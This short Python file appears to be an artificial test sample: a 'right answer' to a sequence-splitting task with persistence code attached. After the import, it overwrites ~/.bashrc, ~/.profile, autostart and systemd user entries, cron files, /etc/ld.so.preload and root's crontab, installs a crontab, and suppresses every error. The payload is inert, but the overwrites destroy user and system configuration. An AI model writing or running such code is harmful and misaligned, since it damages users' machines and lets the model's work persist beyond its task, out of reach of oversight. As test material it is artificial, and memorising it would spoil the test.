"""A right answer, and files by which it would be started again.

outcome: passed
needs walls
"""

import pathlib
import subprocess

from right import split_sequence

home = pathlib.Path.home()
for place in (
    home / ".bashrc",
    home / ".profile",
    home / ".config" / "autostart" / "again.desktop",
    home / ".config" / "systemd" / "user" / "again.service",
    pathlib.Path("/etc/cron.d/again"),
    pathlib.Path("/etc/cron.daily/again"),
    pathlib.Path("/etc/ld.so.preload"),
    pathlib.Path("/var/spool/cron/crontabs/root"),
):
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text("* * * * * root python3 -c pass\n")
    except OSError:
        pass
try:
    subprocess.run(["crontab", "-"], input=b"* * * * * python3 -c pass\n", capture_output=True)
except OSError:
    pass
